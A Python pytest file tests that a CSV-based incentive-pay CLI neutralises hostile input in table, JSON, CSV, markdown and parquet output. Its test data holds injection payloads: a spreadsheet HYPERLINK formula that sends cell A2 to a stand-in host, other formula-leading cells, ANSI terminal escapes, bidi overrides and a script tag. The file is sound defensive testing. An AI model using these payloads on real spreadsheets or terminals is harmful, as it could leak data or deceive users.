"""Hostile cells through every output: no formula wakes up, no terminal is driven, nothing is markup."""
# ruff: noqa: E501 - a plan and a file stand as they are written

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
from pathlib import Path
from typing import Any, TypeAlias

import polars as pl
import pytest
from transcript import ROOT

from csvariable.cli import run
from csvariable.documents import whole_csv
from csvariable.documents.payments import SAID
from csvariable.tables import reading

Shown: TypeAlias = pytest.CaptureFixture[str]

PLAN = """\
csvariable: 1
name: "=Plan [bold]x[/bold] \\e[2J | <b>"
currency: EUR
period: month
target_incentive: 100
kpis:
  nps: {weight: 100 %, unit: points, curve: {of: actual, lookup: [{from: 0, pays: 50 %}, {from: 50, pays: 100 %}]}}
"""
HOSTILE = ROOT / "tests" / "data" / "exports" / "hostile_cells.csv"
DRIVERS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffd]")
"""Control characters but the line feed, and what turns the direction of reading."""


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "100")
    Path("plan.yaml").write_text(PLAN, "utf-8")
    lines = HOSTILE.read_text("utf-8").splitlines()
    teams = ["team", *(f'"=T{at}|"' if at % 2 else "@[red]team" for at in range(1, len(lines)))]
    hostile = "".join(f"{line},{team}\n" for line, team in zip(lines, teams, strict=True))
    Path("kpis[1].csv").write_text(hostile + "=1+1,-2,3,x,y\n@me,a|b,3,x,`c`\n", "utf-8")
    return tmp_path


def output(shown: Shown, *arguments: str, code: int = 0) -> str:
    """Run a command; return all that it wrote, and refuse what would drive a terminal."""
    assert run(list(arguments)) == code
    said = shown.readouterr()
    assert not DRIVERS.findall(said.out + said.err)
    return said.out if code == 0 else said.err


ARGUMENTS = ("compute", "plan.yaml", "kpis[1].csv")


@pytest.mark.parametrize("form", ["table", "json", "jsonl", "csv", "markdown"])
@pytest.mark.parametrize("lang", ["en", "fr"])
def test_o3_no_format_drives_a_terminal(form: str, lang: str, capsys: Shown) -> None:
    shown = output(capsys, *ARGUMENTS, "--format", form, "--lang", lang, "--details")
    assert "Tom" in shown
    assert run([*ARGUMENTS, "--format", form, "--lang", lang, "-o", "pay", "--details"]) == 0
    assert not DRIVERS.findall(Path("pay").read_text("utf-8"))


def test_o1_o3_every_screen_shows_names_as_they_are(capsys: Shown) -> None:
    for person, seen in (
        ("011", "[bold red]Tomás[/bold red] O'Neill [/]"),
        ("012", r"Ana\x1b[2J\x1b[31m López"),
    ):
        for verb in ((*ARGUMENTS, "--details"), ("explain", *ARGUMENTS[1:])):
            for lang in ("en", "fr"):
                shown = output(capsys, *verb, "--csm", person, "--lang", lang, "--width", "200")
                assert seen in shown


def test_o3_messages_show_names_as_escapes(capsys: Shown) -> None:
    """Errors on cells, ids, KPIs, columns, files and options that hold escapes."""
    Path("k.csv").write_text("csm,nps\nan\x1b[2Ja,x\x1b]8;;http://a\n", "utf-8")
    assert r"x\x1b]8;;http://a" in output(capsys, "compute", "plan.yaml", "k.csv", code=1)
    Path("k.csv").write_text("csm\x1b[2J,nps\nana,1\n", "utf-8")
    assert r"csm\x1b[2J" in output(capsys, "compute", "plan.yaml", "k.csv", code=1)
    Path("k.csv").write_text("csm,kpi,value\nana,\u202enps,1\n", "utf-8")
    assert r"\u202enps" in output(capsys, "compute", "plan.yaml", "k.csv", code=1)
    Path("k.csv").write_text("csm,nps,role\nana,1,\u202e[red]\n", "utf-8")
    assert r"\u202e[red]" in output(capsys, "compute", "plan.yaml", "k.csv", code=1)
    Path("p\x1b[2J.yaml").write_text("csvariable: 1\nna\u202ame: x\n", "utf-8")
    for form in ("text", "concise", "json", "github", "sarif"):
        assert run(["validate", "p\x1b[2J.yaml", "--format", form]) == 1
        said = capsys.readouterr()
        assert not DRIVERS.findall(said.out + said.err), form
    assert r"\x1b[2J" in output(capsys, "compute", "\x1b[2J", "k.csv", code=2)
    assert r"\x1b[2J" in output(capsys, *ARGUMENTS, "--csm", "\x1b[2J", code=2)
    assert r"\x1b[2J" in output(capsys, *ARGUMENTS, "-o", "\x1b[2J/a.csv", code=2)
    for odd in (("--\x1b[2J",), ("--format", "\x1b[2J"), ("--width", "\x9b2J"), ("--lang", "\x1b[2J")):
        output(capsys, *ARGUMENTS, *odd, code=2)
    output(capsys, "comp\x1b[2Jute", code=2)
    output(capsys, "rule", "cli\x1b[2Jff", code=2)
    output(capsys, "init", "cs\x1b[2Jm", code=2)


def test_o1_colours_do_not_make_markup_of_names(capsys: Shown) -> None:
    assert run([*ARGUMENTS, "--color", "always", "--details", "--width", "200"]) == 0
    shown = re.sub(r"\x1b\[[0-9;]*m", "", capsys.readouterr().out)
    assert not DRIVERS.findall(shown)
    assert "[bold red]Tomás[/bold red] O'Neill [/]" in shown
    assert "\U0001f4b0" not in shown


# ------------------------------------------------------------------------------------ spreadsheets

ACTIVE = tuple("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def asleep(data: str) -> list[dict[str, str]]:
    """The rows of a CSV output, none of whose cells a spreadsheet takes for a formula."""
    rows = list(csv.DictReader(io.StringIO(data)))
    for row in rows:
        for column, cell in row.items():
            assert NUMBER.fullmatch(cell) or not cell.startswith(ACTIVE), (column, cell)
            if column not in {"participant", "name", "role", "team", *SAID}:
                assert NUMBER.fullmatch(cell) or not cell
    return rows


def test_o4_no_text_of_a_csv_is_a_formula(capsys: Shown) -> None:
    rows = asleep(output(capsys, *ARGUMENTS, "--format", "csv", "--details"))
    names = [row["name"] for row in rows]
    assert names[:4] == ['\'=HYPERLINK("http://x.example/?"&A2,"Zoé")', "'+33 Karim", "'@sum", "'-Léa"]
    assert r"Ana\x1b[2J\x1b[31m López" in names
    assert r"Bob\u202e0001" in names
    assert [row["participant"] for row in rows][-2:] == ["'=1+1", "'@me"]
    assert rows[0]["team"] == "'=T1|"


def test_o4_negative_amounts_stay_numbers(capsys: Shown) -> None:
    Path("a.csv").write_text("participant,amount,reason\n007,-250.50,error\n", "utf-8")
    rows = asleep(output(capsys, *ARGUMENTS, "--format", "csv", "--adjustments", "a.csv"))
    assert (rows[0]["adjustments"], rows[0]["total"]) == ("-250.50", "-150.50")


def test_o4_large_files_are_guarded_alike(capsys: Shown, monkeypatch: pytest.MonkeyPatch) -> None:
    text = "participant,name,team,nps\n" + "".join(
        f"p{at},{name},{team},40\n"
        for at, (name, team) in enumerate(
            [("=1+1", "North"), ("+33", "@all"), ("-Lea", "=x"), ("@sum", ""), ("", "-"), ("Bob", "South")]
        )
    )
    Path("large.csv").write_text(text, "utf-8")
    Path("driven.csv").write_text(text + "q\x1b[2J,Tab\tx,\x7f,40\n", "utf-8")
    calls: list[str] = []
    write = whole_csv.write_columns

    def noted(*given: Any) -> None:
        calls.append("whole")
        write(*given)

    monkeypatch.setattr(whole_csv, "write_columns", noted)
    for name in ("large.csv", "driven.csv"):
        monkeypatch.setattr(reading, "LARGE", 0)
        by_columns = output(capsys, "compute", "plan.yaml", name, "--format", "csv")
        assert calls.pop() == "whole"
        monkeypatch.setattr(reading, "LARGE", 10**9)
        by_rows = output(capsys, "compute", "plan.yaml", name, "--format", "csv")
        assert not calls
        assert asleep(by_columns) == asleep(by_rows)
        assert by_columns == by_rows


def test_o4_parquet_keeps_texts_as_they_are() -> None:
    assert run([*ARGUMENTS, "-o", "pay.parquet"]) == 0
    frame = pl.read_parquet("pay.parquet")
    assert frame.get_column("name").to_list()[:2] == [
        '=HYPERLINK("http://x.example/?"&A2,"Zoé")',
        "+33 Karim",
    ]
    assert frame.schema["total"] == pl.Decimal(38, 2)


def test_json_means_what_the_file_said(capsys: Shown) -> None:
    data = json.loads(output(capsys, *ARGUMENTS, "--format", "json"))
    people = {one["id"]: one["name"] for one in data["people"]}
    assert people["012"] == "Ana\x1b[2J\x1b[31m López"
    assert people["018"] == "Bob\u202e0001"
    lines = output(capsys, *ARGUMENTS, "--format", "jsonl").splitlines()
    assert [json.loads(line)["id"] for line in lines] == list(people)


def test_o5_markdown_shows_names_as_they_are(capsys: Shown) -> None:
    shown = output(capsys, *ARGUMENTS, "--format", "markdown")
    table = [line for line in shown.splitlines() if line.startswith("|")]
    assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) == 1
    assert not re.search(r"(?<!\\)[<>`\[\]_~#]", shown.removeprefix("# "))
    assert r"\[bold red\]Tomás\[/bold red\] O'Neill \[/\]" in shown
    assert r"\<script\>alert(1)\</script\> \#set page" in shown
    assert r"a\|b" in shown
    assert "&A2" not in shown.replace(r"\&A2", "")


# ------------------------------------------------------------------------------- the right file, once


def test_a_name_in_brackets_is_that_file(capsys: Shown, monkeypatch: pytest.MonkeyPatch) -> None:
    """`kpis[2025].csv` would be read as `kpis2.csv` by a reader that expands names."""
    for name, value in (("kpis[2025].csv", 40), ("kpis2.csv", 90), ("kpis*.csv", 60), ("kpisx.csv", 90)):
        Path(name).write_text(f"participant,nps\nana,{value}\n", "utf-8")
    for limit in (0, 10**9):
        monkeypatch.setattr(reading, "LARGE", limit)
        for name, total in (("kpis[2025].csv", "50.00"), ("kpis*.csv", "100.00")):
            shown = output(capsys, "compute", "plan.yaml", name, "--format", "csv")
            assert [row["total"] for row in csv.DictReader(io.StringIO(shown))] == [total]


@pytest.mark.slow
def test_o9_the_same_files_give_the_same_bytes() -> None:
    """Whatever the order of hashes and the number of threads: every format, screens included."""
    demo = ROOT / "examples" / "demo"
    files = [str(demo / name) for name in ("plan.yaml", "kpis.csv")]
    people = ["--people", str(demo / "people.csv")]
    code = "import sys; from csvariable.cli import run; sys.exit(max(run(one.split('\\t')) for one in sys.argv[1:]))"
    verbs = [
        ["compute", *files, *people, "-f", form] for form in ("table", "json", "jsonl", "csv", "markdown")
    ]
    verbs += [["explain", *files, *people, "--csm", "frank"], ["compute", *files, *people, "--details"]]
    verbs += [["validate", files[0], "--format", form] for form in ("json", "sarif")]
    verbs += [["test", files[0], "--coverage"], ["schema"], ["schema", "result"]]
    seen = set()
    for seed, threads in (("0", "1"), ("1", "2"), ("4711", "8")):
        again = [[*verb[:1], *verb[1:]] for verb in verbs] + [
            ["compute", *files, *people, "-o", f"{seed}.parquet"]
        ]
        done = subprocess.run(
            [sys.executable, "-c", code, *("\t".join(verb) for verb in again)],
            capture_output=True,
            check=True,
            env={**os.environ, "PYTHONHASHSEED": seed, "POLARS_MAX_THREADS": threads, "COLUMNS": "100"},
        )
        seen.add((done.stdout, done.stderr, Path(f"{seed}.parquet").read_bytes()))
    assert len(seen) == 1


def test_o6_names_that_look_alike_are_composed_not_merged(capsys: Shown) -> None:
    shown = output(capsys, *ARGUMENTS, "--format", "json")
    assert unicodedata.is_normalized("NFC", shown)
    assert r"Ana\u00a0López\u200b" in shown.replace("\u00a0", r"\u00a0")
